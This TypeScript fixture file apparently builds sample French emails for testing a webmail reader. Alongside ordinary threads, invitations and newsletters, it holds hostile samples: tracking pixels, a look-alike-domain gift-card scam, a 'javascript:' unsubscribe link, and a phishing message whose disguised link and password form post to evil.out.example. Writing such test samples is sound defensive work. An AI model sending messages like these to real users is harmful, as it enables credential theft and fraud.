/** Messages to be read: a conversation with files, a newsletter that wants to know, plain text of every kind. Of our own writing. */
import { deflateSync } from 'node:zlib';
import { crc32 } from '@vaguemestre/webmail/reading/zip';

export interface ReadingMessage {
  readonly name: string;
  readonly text: string;
}

interface Parts {
  readonly from: string;
  readonly to?: string;
  readonly subject: string;
  readonly id: string;
  readonly answers?: string;
  readonly date: string;
  readonly headers?: readonly string[];
  readonly body: string;
}

const boundary = 'b1';

function mail({
  from,
  to = 'Claire Vasseur <claire.vasseur@labo.example>',
  subject,
  id,
  answers,
  date,
  headers = [],
  body,
}: Parts): string {
  return [
    `From: ${from.replace(/^[^<]*[^\x20-\x7e"][^<]*(?= <)/, encoded)}`,
    `To: ${to}`,
    `Subject: ${encoded(subject)}`,
    `Date: ${date}`,
    `Message-ID: <${id}@uni-x.example>`,
    ...(answers === undefined
      ? []
      : [`In-Reply-To: <${answers}@uni-x.example>`, `References: <${answers}@uni-x.example>`]),
    'MIME-Version: 1.0',
    ...headers,
    body,
  ].join('\r\n');
}

function encoded(text: string): string {
  return /^[\x20-\x7e]*$/.test(text) ? text : `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
}

const base64 = (octets: Buffer | string): string => Buffer.from(octets).toString('base64').replace(/.{76}/g, '$&\r\n');

function plain(text: string, more = ''): string {
  return `Content-Type: text/plain; charset=utf-8${more}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${text.replaceAll('\n', '\r\n')}\r\n`;
}

export function html(text: string): string {
  return `Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(text)}\r\n`;
}

function file(name: string, type: string, octets: Buffer | string, more: readonly string[] = []): string {
  const names = `filename*=utf-8''${encodeURIComponent(name)}`;
  const lines = [`Content-Type: ${type}`, 'Content-Transfer-Encoding: base64', ...more];
  if (!more.some((line) => line.startsWith('Content-Disposition')))
    lines.push(`Content-Disposition: attachment; ${names}`);
  return `${lines.join('\r\n')}\r\n\r\n${base64(octets)}\r\n`;
}

function multipart(kind: string, parts: readonly string[], mark = boundary): string {
  const body = parts.map((part) => `--${mark}\r\n${part}`).join('');
  return `Content-Type: multipart/${kind}; boundary="${mark}"\r\n\r\n${body}--${mark}--\r\n`;
}

/** A picture of stripes, 160 by 90 (PNG, ISO/IEC 15948: 8 bits, RGB, no filter). */
function stripes(): Buffer {
  const [width, height] = [160, 90];
  const rows = Buffer.alloc(height * (1 + width * 3));
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const at = y * (1 + width * 3) + 1 + x * 3;
      rows[at] = (x * 255) / width;
      rows[at + 1] = (y * 255) / height;
      rows[at + 2] = (x + y) % 16 < 8 ? 160 : 220;
    }
  }
  const chunk = (type: string, data: Buffer): Buffer => {
    const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(data.length, 0);
    ends.writeUInt32BE(crc32(typed), 4);
    return Buffer.concat([ends.subarray(0, 4), typed, ends.subarray(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const picture = stripes();

const pdf = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>endobj
4 0 obj<</Length 47>>stream
BT /F 24 Tf 40 100 Td (Creneaux, semaine 50) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

const anna = 'Anna Weber <anna.weber@uni-x.example>';
const hugo = 'Hugo Lemarchand <hugo.lemarchand@labo.example>';
const beam = 'Temps de faisceau, semaine 50';

export const readingMail: readonly ReadingMessage[] = [
  {
    name: 'beam 1',
    text: mail({
      from: hugo,
      subject: beam,
      id: 'beam1',
      date: 'Mon, 23 Nov 2026 17:20:00 +0100',
      body: plain('Je peux prendre la nuit de mardi si personne d’autre ne la veut.\n\nHugo'),
    }),
  },
  {
    name: 'beam 2',
    text: mail({
      from: anna,
      to: 'Claire Vasseur <claire.vasseur@labo.example>, Hugo Lemarchand <hugo.lemarchand@labo.example>',
      subject: `Re: ${beam}`,
      id: 'beam2',
      answers: 'beam1',
      date: 'Tue, 24 Nov 2026 10:42:00 +0100',
      body: multipart('mixed', [
        plain(
          'Bonjour Claire,\n\nJeudi nous convient. Les créneaux libres sont dans le tableau joint : je \nvous garde les deux postes de nuit, mercredi 9 et jeudi 10 décembre, jusqu’à \nvendredi midi.\n\nPensez à déclarer l’échantillon avant le 1er décembre : https://uni-x.example/declaration (la radioprotection demande une semaine).\n\nBien à vous,\nAnna\n\n-- \nAnna Weber\nUni X, ligne 12\n\nLe 23 novembre, Hugo Lemarchand a écrit :\n> Je peux prendre la nuit de mardi si personne d’autre ne la veut.\n>\n> Hugo',
          '; format=flowed',
        ),
        file('creneaux-s50.pdf', 'application/pdf', pdf),
        file('référence_0412.csv', 'text/csv; charset=utf-8', 'angle;intensité\n1,2;4100\n1,4;3980\n'),
        file('cryostat.png', 'image/png', picture),
        file('mesures.zip', 'application/zip', Buffer.from('PK\x05\x06'.padEnd(22, '\0'), 'latin1')),
        `Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="ancien message.eml"\r\n\r\n${mail({
          from: hugo,
          subject: 'Un ancien message',
          id: 'old1',
          date: 'Mon, 2 Nov 2026 08:00:00 +0100',
          body: multipart(
            'mixed',
            [
              html('<p>Le texte de l’ancien message, avec <b>du gras</b>.</p>'),
              file(
                'mesures anciennes.txt',
                'text/plain; charset=iso-8859-1',
                Buffer.from('\xe9chantillon 12\n', 'latin1'),
              ),
              `Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="plus ancien.eml"\r\n\r\n${mail(
                {
                  from: anna,
                  subject: 'Encore plus ancien',
                  id: 'old0',
                  date: 'Sun, 1 Nov 2026 08:00:00 +0100',
                  body: plain('Au fond de tout.'),
                },
              )}`,
            ],
            'b3',
          ),
        })}`,
      ]),
    }),
  },
  {
    name: 'newsletter',
    text: mail({
      from: '"Société de physique" <lettre@sfp.example>',
      subject: 'La lettre de novembre',
      id: 'news1',
      headers: [
        'List-Unsubscribe: <https://lettre.out.example/off?u=1>',
        'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
      ],
      date: 'Tue, 24 Nov 2026 09:05:00 +0100',
      body: html(`<!doctype html><html lang="fr"><head><style>
        body { background: #eef1f4; margin: 0; font-family: Georgia, serif }
        .box { max-width: 620px; margin: 0 auto; background: #ffffff; padding: 24px }
        h1 { color: #0b3d91; font-size: 26px } .lead { color: #333 }
        .go { display: inline-block; background: #0b3d91; color: #fff; padding: 10px 18px; border-radius: 6px; text-decoration: none }
        @media (max-width: 600px) { .box { padding: 12px } h1 { font-size: 22px } }
        </style></head><body bgcolor="#eef1f4"><div class="box">
        <img src="http://images.out.example/header.png" alt="La lettre" width="572" height="120">
        <h1>Prix jeunes chercheurs</h1>
        <p class="lead">Les candidatures sont ouvertes jusqu’au 15 janvier. Le dossier tient en quatre pages.</p>
        <p><a class="go" href="http://clic.out.example/prix?id=4412">Déposer un dossier</a></p>
        <p>Le programme est sur <a href="http://clic.out.example/x?id=4412">www.sfp.example/programme</a>.</p>
        <table width="100%"><tr><td style="background:#f6f7f9;padding:12px">Journée scientifique, le 3 décembre à Lyon.</td></tr></table>
        <img src="http://open.out.example/track/open.php?u=12&amp;id=99" width="1" height="1">
        <img src="http://pixel.out.example/p.gif" style="display:none">
        </div></body></html>`),
    }),
  },
  {
    name: 'html reply',
    text: mail({
      from: 'Inès Delorme <ines.delorme@labo.example>',
      subject: 'Chapitre 2, version à relire',
      id: 'chap2',
      date: 'Tue, 24 Nov 2026 09:58:00 +0100',
      body: multipart('alternative', [
        plain('J’ai repris la figure 2.4.'),
        multipart(
          'related',
          [
            html(
              '<div dir="ltr"><p>J’ai repris la figure 2.4 et <b>raccourci</b> la partie sur les contraintes.</p><p><img src="cid:fig24@labo.example" alt="figure 2.4" width="160"></p><p style="color:#000000">Dites-moi si le passage sur l’erreur vous va.</p><p>Inès</p></div><br><div class="gmail_quote"><div class="gmail_attr">Le lun. 23 nov. 2026, Claire Vasseur a écrit :</div><blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex"><p>Il me manque la figure 2.4.</p></blockquote></div>',
            ),
            file('fig24.png', 'image/png', picture, [
              'Content-ID: <fig24@labo.example>',
              'Content-Disposition: inline; filename="fig24.png"',
            ]),
          ],
          'b2',
        ),
      ]),
    }),
  },
  {
    name: 'invitation',
    text: mail({
      from: 'Noémie Fabrègue <noemie.fabregue@labo.example>',
      subject: 'Invitation : séminaire de vendredi',
      id: 'seminar1',
      date: 'Mon, 23 Nov 2026 11:00:00 +0100',
      body: multipart('alternative', [
        plain('Séminaire vendredi, salle Ampère.'),
        `Content-Type: text/calendar; charset=utf-8; method=REQUEST\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(
          [
            'BEGIN:VCALENDAR',
            'METHOD:REQUEST',
            'BEGIN:VEVENT',
            'UID:seminar1@labo.example',
            'SUMMARY:Séminaire : <b>ondes</b> de spin',
            'DTSTART;TZID=Europe/Paris:20261127T140000',
            'DTEND;TZID=Europe/Paris:20261127T153000',
            'LOCATION:Salle Ampère\\, bâtiment 2',
            'ORGANIZER;CN=Noémie Fabrègue:mailto:noemie.fabregue@labo.example',
            'ATTENDEE;PARTSTAT=ACCEPTED;CN=Hugo Lemarchand:mailto:hugo.lemarchand@labo.example',
            'ATTENDEE;CN=Claire Vasseur:mailto:claire.vasseur@labo.example',
            'END:VEVENT',
            'END:VCALENDAR',
            '',
          ].join('\r\n'),
        )}\r\n`,
      ]),
    }),
  },
  {
    name: 'look-alike',
    text: mail({
      from: 'Hugo <hugo.lemarchand@lab0.example>',
      subject: 'Un service à te demander',
      id: 'scam1',
      date: 'Mon, 23 Nov 2026 10:00:00 +0100',
      headers: ['Reply-To: hugo.l@poste.example'],
      body: plain('Es-tu au bureau ? J’ai besoin de bons d’achat, c’est urgent.'),
    }),
  },
  {
    name: 'list by mail',
    text: mail({
      from: 'Annonces <annonces@listes.example>',
      subject: 'Offres de thèse',
      id: 'offers1',
      date: 'Mon, 23 Nov 2026 09:00:00 +0100',
      headers: [
        'List-Id: <offres.listes.example>',
        'List-Unsubscribe: <mailto:hugo.lemarchand@labo.example?subject=unsubscribe%20offres>, <javascript:X()>',
      ],
      body: plain('Trois offres cette semaine.'),
    }),
  },
  {
    name: 'right to left',
    text: mail({
      from: 'דנה לוי <dana@uni-y.example>',
      subject: 'סמינר ביום חמישי',
      id: 'rtl1',
      date: 'Mon, 23 Nov 2026 08:00:00 +0100',
      body: html('<p>שלום, הסמינר יתקיים ביום חמישי.</p><p>Room 12, 14:00</p>'),
    }),
  },
  {
    name: 'pretender',
    text: mail({
      from: '"direction@labo.example" <compte@messagerie.example>',
      subject: 'Urgent : votre mot de passe expire',
      id: 'phish1',
      date: 'Tue, 24 Nov 2026 08:31:00 +0100',
      body: html(
        '<p>Votre compte sera fermé. Confirmez sur <a href="http://xn--80ak6aa92e.out.example/l">https://webmail.labo.example/</a> avant ce soir.</p><form action="http://evil.out.example/"><input name="p" type="password"><button>Confirmer</button></form>',
      ),
    }),
  },
];
